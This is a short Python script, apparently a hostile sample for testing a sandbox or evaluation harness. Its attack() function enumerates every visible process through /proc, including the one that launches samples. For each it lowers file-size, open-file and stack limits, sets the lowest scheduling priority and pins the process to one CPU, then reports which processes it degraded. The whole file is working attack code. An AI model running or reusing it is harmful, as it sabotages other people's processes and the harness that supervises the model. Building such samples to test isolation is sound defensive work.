"""limits of others: lowers limits, priority and processors of every process it can see, the one that starts samples included."""

import os
import resource


def attack():
    gained = []
    for pid in map(int, filter(str.isdigit, os.listdir("/proc"))):
        if pid == os.getpid():
            continue
        for name in ("RLIMIT_FSIZE", "RLIMIT_NOFILE", "RLIMIT_STACK"):
            try:
                resource.prlimit(pid, getattr(resource, name), (4096, 4096))
            except OSError:
                continue
            gained.append(f"{name} of process {pid}")
        for lower in (lambda: os.setpriority(os.PRIO_PROCESS, pid, 19), lambda: os.sched_setaffinity(pid, {0})):
            try:
                lower()
            except OSError:
                continue
            gained.append(f"scheduling of process {pid}")
    return ", ".join(gained)
